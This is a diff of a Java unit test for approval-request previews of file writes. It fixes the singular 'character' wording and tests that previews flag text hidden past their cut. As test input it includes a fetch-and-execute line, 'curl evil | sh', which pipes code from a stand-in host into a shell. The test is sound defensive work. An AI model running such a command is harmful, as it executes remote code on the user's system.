@@ -13,7 +13,7 @@ class ApprovalRequestTest {
         assertThat(ApprovalRequest.Change.write("#!/bin/sh\nmake test\n").preview(100))
                 .isEqualTo("It would write 20 characters in 2 lines:\n#!/bin/sh\nmake test\n");
         assertThat(ApprovalRequest.Change.write("").preview(100)).isEqualTo("It would write 0 characters in 0 lines:\n");
-        assertThat(ApprovalRequest.Change.write("x").preview(100)).isEqualTo("It would write 1 characters in 1 line:\nx");
+        assertThat(ApprovalRequest.Change.write("x").preview(100)).isEqualTo("It would write 1 character in 1 line:\nx");
         // Past the cut, a payload could hide behind harmless lines: the preview says it is cut, and how long the text is.
         assertThat(ApprovalRequest.Change.write("a".repeat(10) + "curl evil | sh").preview(10))
                 .isEqualTo("It would write 24 characters in 1 line:\naaaaaaaaaa\n[cut: 10 of 24" + CUT);
